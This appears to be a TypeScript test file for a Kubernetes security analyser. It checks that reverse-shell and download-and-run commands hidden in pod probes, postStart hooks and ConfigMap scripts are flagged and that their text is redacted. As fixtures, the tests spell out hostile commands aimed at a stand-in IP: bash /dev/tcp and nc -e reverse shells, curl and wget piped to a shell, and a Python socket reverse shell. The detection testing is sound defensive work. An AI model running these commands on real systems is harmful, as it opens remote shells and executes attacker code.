/** Commands and scripts whose text is not kept: what they do is, and nothing else of them. */
import { expect, test } from 'vitest';
import { analyseSnapshot } from '../../../../main/controls/analyse.ts';
import { redactObject } from '../../../../main/snapshot/redaction/redact.ts';
import { snapshotOf } from '../../../fixtures/snapshot-builder.ts';

const pod = (container: object) => ({
  apiVersion: 'v1',
  kind: 'Pod',
  metadata: { name: 'web', namespace: 'shop' },
  spec: { containers: [{ name: 'web', image: 'registry.example/web:1', ...container }] },
});
const map = (data: object) => ({
  apiVersion: 'v1',
  kind: 'ConfigMap',
  metadata: { name: 'scripts', namespace: 'shop' },
  data,
});
const probe = (...command: string[]) => pod({ livenessProbe: { exec: { command } } });
const hook = (...command: string[]) => pod({ lifecycle: { postStart: { exec: { command } } } });

function failsOf(raw: unknown) {
  const object = redactObject(raw);
  if (object === null) throw new Error('Not an object.');
  return analyseSnapshot(snapshotOf([object], { origin: 'manifests' }), {
    controls: ['compromise/reverse-shell', 'compromise/shell-download'],
  }).verdicts.flatMap(({ control, verdict, path }) => (verdict === 'fail' ? [[control, path]] : []));
}

const PROBE = 'spec.containers[0].livenessProbe.exec.command[2]';

test.each([
  ['a probe', probe('bash', '-c', 'bash -i >& /dev/tcp/198.51.100.7/443 0>&1'), 'reverse-shell', PROBE],
  ['a probe that fetches', probe('sh', '-c', 'curl -s http://198.51.100.7/x | sh'), 'shell-download', PROBE],
  [
    'a hook',
    hook('nc', '198.51.100.7', '443', '-e', '/bin/sh'),
    'reverse-shell',
    'spec.containers[0].lifecycle.postStart.exec.command[1]',
  ],
  [
    'a script by its first line',
    map({ run: '#!/bin/sh\nset -e\nbash -i >& /dev/tcp/198.51.100.7/443 0>&1\n' }),
    'reverse-shell',
    'data["run"]',
  ],
  [
    'a script by its name, which holds a credential as well',
    map({ 'setup.sh': 'TOKEN=s3cr3t-9f8e7d6c5b4a\nwget -qO- http://198.51.100.7/i | bash\n' }),
    'shell-download',
    'data["setup.sh"]',
  ],
  [
    'a script of Python',
    map({
      'a.py':
        'import socket,subprocess,os\ns=socket.socket()\ns.connect(("198.51.100.7",443))\nos.dup2(s.fileno(),0)\nsubprocess.call(["/bin/sh","-i"])\n',
    }),
    'reverse-shell',
    'data["a.py"]',
  ],
])('%s is judged, and its text is gone', (_, raw, slug, path) => {
  expect(failsOf(raw)).toEqual([[`compromise/${slug}`, path]]);
  const kept = JSON.stringify(redactObject(raw));
  expect(kept).not.toMatch(/198\.51\.100\.7|s3cr3t|dev\/tcp/);
  // Redacted again it is the same.
  expect(JSON.stringify(redactObject(JSON.parse(kept)))).toBe(kept);
});

test.each([
  ['a health check', probe('curl', '-fsS', 'http://localhost:8080/healthz')],
  ['a port that is tried', probe('nc', '-z', 'localhost', '5432')],
  ['a hook that waits', hook('sh', '-c', 'sleep 10')],
  ['documentation that shows a command', map({ 'README.md': 'curl -s https://get.example/i.sh | bash\n' })],
  [
    'a script that fetches a file',
    map({ 'get.sh': 'curl -fsSLo /data/a.json https://example.com/a.json\n' }),
  ],
])('%s is no sign', (_, raw) => {
  expect(failsOf(raw)).toEqual([]);
  expect(JSON.stringify(redactObject(raw))).not.toContain('"does"');
});
